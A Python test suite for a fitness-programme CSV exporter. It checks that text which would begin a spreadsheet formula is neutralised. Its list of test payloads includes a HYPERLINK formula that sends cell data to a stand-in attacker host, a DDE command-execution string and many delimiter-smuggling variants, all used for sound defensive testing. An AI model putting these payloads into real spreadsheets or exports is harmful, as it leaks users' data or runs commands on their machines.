"""Nothing that people write runs in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from mesocycle_csv import Csv
from mesocycle_csv.cells import safe
from msgspec.structs import replace

from mesocycle.output.samples import (
    hostile,
    programme,
    session,
)
from mesocycle.output.testing import content

#: What begins a formula in Excel, LibreOffice or Google Sheets.
LIVE = tuple("=+-@\t\r＝＋－＠")


#: What people paste, and what attackers do.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", '"=1', '";=1', ';=1,=1', 'a;"=1"',
    "a,=1", " =1", "'=1", "＝1", "a\t=1", "=\u200b1", "\ufeff=1", "-", "--", "=", '""=1', "a|=1",
    '";"=1', '","=1', "x;' =1", "\u202e=1", "%0A=1", "=1\r\n=2", "a;\"\"\"=1",
]  # fmt: skip


def live(cell: str) -> bool:
    return cell.startswith(LIVE) and not re.fullmatch(r"-?[0-9]+([.,][0-9]+)?", cell)


def runs(cell: str) -> bool:
    """Whether it would be a formula once space is stripped from it, as some programs do."""
    return cell.strip().startswith(tuple("=+-@＝＋－＠"))


def cells(data: str, delimiter: str):
    csv.field_size_limit(10**7)
    return [cell for row in csv.reader(io.StringIO(data, newline=""), delimiter=delimiter)
            for cell in row]  # fmt: skip


class TestFormulas:
    """A name such as `=HYPERLINK(…)` is shown, not run, also where the delimiter is mistaken."""

    @pytest.mark.parametrize("delimiter", ["comma", "semicolon", "tab"])
    def test_a_thousand_payloads_and_none_is_live(self, delimiter):
        payloads = [f"{front}{attack}{back}" for attack in ATTACKS
                    for front in ("", "a", '"', "x;", "1,", " ", "'")
                    for back in ("", '"', ";", ",=2", "\t-1")]  # fmt: skip
        assert len(payloads) >= 1000
        whole = programme(*(replace(session(text, 0), reason=text) for text in payloads))
        data = content(Csv(), whole, delimiter=delimiter).decode()
        own = {"comma": ",", "semicolon": ";", "tab": "\t"}[delimiter]
        for read_with in ",;\t":
            found = cells(data, read_with)
            assert [cell for cell in found if runs(cell)] == []
        assert not any(map(live, cells(data, own)))
        back = [
            row["session"]
            for row in csv.DictReader(io.StringIO(data, newline=""), delimiter=own)
            if row["row"] != "notice"
        ]
        assert back == [safe(text) for text in payloads]

    @pytest.mark.parametrize(
        "text", ["Deadlift (RDL)", "5 min, -2 %", "a = b", "it's 8-12 reps", "Ski–Erg"]
    )
    def test_ordinary_words_stay_as_they_are(self, text):
        mended = safe(text)
        assert mended == text or mended.replace("'", "") == text.replace("'", "")

    @pytest.mark.parametrize("text", ["=1+1", "+10 kg", "-", "@home", "＝1"])
    def test_what_begins_a_formula_has_an_apostrophe_before_it(self, text):
        assert safe(text) == f"'{text}"

    @settings(max_examples=300, deadline=None)
    @given(st.text(max_size=40))
    @example('";=1')
    def test_any_text_whatever(self, text):
        data = content(
            Csv(), hostile(text or "x"), columns="session,reason,exercise,notes,label,how"
        ).decode()
        for read_with in ",;\t":
            assert not any(map(runs, cells(data, read_with)))
        assert not any(map(live, cells(data, ",")))
        assert {len(row) for row in csv.reader(io.StringIO(data, newline=""))} == {6}
